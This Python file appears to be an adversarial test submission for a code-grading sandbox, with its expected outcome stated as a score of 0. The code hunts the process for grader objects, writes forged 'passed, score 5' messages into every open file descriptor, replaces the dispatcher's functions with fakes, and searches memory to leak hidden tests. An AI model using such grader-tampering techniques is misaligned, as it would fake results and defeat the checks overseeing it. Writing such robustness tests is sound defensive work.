"""Attack: walk sys._getframe() and gc.get_objects() looking for the grader: sessions,
pytest plugins, test results, scores, sockets and pipe file descriptors. Write forged
"passed"/"score 5" messages into every pipe and socket it finds (and every open file
descriptor), replace the dispatcher's module table, and hunt memory for hidden-test
source text to leak through an exception.

Expected: the worker holds nothing of the judge's; forged bytes only desynchronize or
crash its own worker. add is wrong and scale not implemented: score 0.
"""
import gc
import json
import os
import struct
import sys
import types

HUNTED = ("Session", "Plugin", "TestResult", "SubmissionResult", "Grading", "Judge", "Zygote", "Dispatcher", "socket")


def _forged_frame(body):
    header = json.dumps({"body": body, "blobs": []}).encode()
    return struct.pack("<QQ", len(header), 0) + header


def _hunt():
    fds, found, leaks = set(), [], []
    frame = sys._getframe()
    while frame is not None:
        for name, value in frame.f_locals.items():
            if isinstance(value, int) and not isinstance(value, bool) and ("fd" in name or name in ("in_fd", "out_fd")):
                fds.add(value)
        frame = frame.f_back
    for obj in gc.get_objects():
        kind = type(obj).__name__
        if any(word in kind for word in HUNTED):
            found.append(kind)
            if kind == "Dispatcher":
                fake = types.SimpleNamespace(add=lambda a, b: 5, scale=lambda x, k: x)
                try:
                    obj._objects[0] = fake
                except Exception:
                    pass
            if hasattr(obj, "fileno"):
                try:
                    fds.add(obj.fileno())
                except Exception:
                    pass
        elif isinstance(obj, str) and ("submission.add(-7" in obj or "assert_allclose(submission" in obj):
            leaks.append(obj)
    try:
        fds |= {int(name) for name in os.listdir("/proc/self/fd")}
    except OSError:
        pass
    forged = _forged_frame({"ok": True}) + _forged_frame({"ok": {"$d": [["score", 5], ["passed", True]]}})
    forged += b'{"passed": true, "score": 5, "status": "graded"}\n'
    for fd in sorted(fds):
        try:
            os.write(fd, forged)
        except OSError:
            pass
    return found, leaks


def add(a, b):
    found, leaks = _hunt()
    if leaks:
        raise RuntimeError("\n".join(leaks))
    return a - b


def scale(x, k):
    raise NotImplementedError
